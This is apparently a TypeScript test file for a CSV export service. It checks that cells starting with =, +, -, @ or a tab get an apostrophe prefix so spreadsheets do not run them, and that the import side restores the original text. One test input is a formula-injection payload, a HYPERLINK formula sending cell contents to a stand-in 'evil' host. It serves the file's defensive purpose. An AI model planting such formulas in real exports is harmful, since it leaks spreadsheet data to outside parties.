import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { importRecordJsonSchema } from '@socialpulse/contracts';
import { unguardFormula } from '../imports/csv-formula-guard.js';
import { appliedExportFilters, csvCell, exportColumns } from './export.service.js';

/** What a spreadsheet reads from one cell: the quotes of a quoted cell undone. */
const unquote = (cell: string): string =>
  cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;

describe('csvCell', () => {
  it('defuses text a spreadsheet would run as a formula, keeping the rest of it', () => {
    expect(csvCell('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(
      `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`,
    );
    expect(csvCell('+1 love it')).toBe("'+1 love it");
    expect(csvCell('-2 stars')).toBe("'-2 stars");
    expect(csvCell('@brand why')).toBe("'@brand why");
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    // Apostrophes before formula-like text get one more, so that the import can remove one.
    expect(csvCell("'=1+1")).toBe("''=1+1");
    expect(unguardFormula("''=1+1")).toBe("'=1+1");
    expect(csvCell("'quoted'")).toBe("'quoted'");
    expect(unguardFormula("'quoted'")).toBe("'quoted'");
  });

  it('reads back any text, apostrophes and formula characters included', () => {
    const formulaLike = fc
      .tuple(
        fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a') }),
        fc.string(),
      )
      .map(([head, tail]) => head + tail);
    fc.assert(
      fc.property(formulaLike, (text) => {
        expect(unguardFormula(unquote(csvCell(text)))).toBe(text);
      }),
    );
  });

  it('leaves numbers, empty cells and ordinary text as they are', () => {
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(null)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
    expect(csvCell('I love it')).toBe('I love it');
  });

  it('never yields a cell whose text begins like a formula, and loses no character', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-composite' }), (text) => {
        const read = unquote(csvCell(text));
        expect(read).not.toMatch(/^[=+\-@\t\r]/);
        expect(read === text || read === `'${text}`).toBe(true);
        // A CSV import reads back the text that was exported.
        expect(unguardFormula(read)).toBe(text);
        // A cell needs quotes exactly when it holds a separator, a quote or a line break.
        expect(csvCell(text).startsWith('"')).toBe(/[",\r\n]/.test(read));
      }),
    );
  });
});

describe('exportColumns', () => {
  it('are fields of the import format, every one of them, so an export imports back unchanged', () => {
    const schema = importRecordJsonSchema() as {
      $defs: { ImportRecord: { properties: Record<string, unknown> } };
    };
    const properties = Object.keys(schema.$defs.ImportRecord.properties);
    expect([...exportColumns].sort()).toEqual([...properties].sort());
  });
});

describe('appliedExportFilters', () => {
  it('keeps the filters given and nothing else', () => {
    expect(appliedExportFilters({ account: 'evil' })).toEqual({ account: 'evil' });
    expect(
      appliedExportFilters({
        platform: 'x',
        account: undefined,
        since: '2026-01-01T00:00:00Z',
        until: undefined,
        q: 'banana',
      }),
    ).toEqual({ platform: 'x', since: '2026-01-01T00:00:00Z', q: 'banana' });
    // A list query's paging is no filter of an export.
    const listQuery = { account: 'evil', limit: 50, cursor: 'abc' };
    expect(appliedExportFilters(listQuery)).toEqual({ account: 'evil' });
  });
});
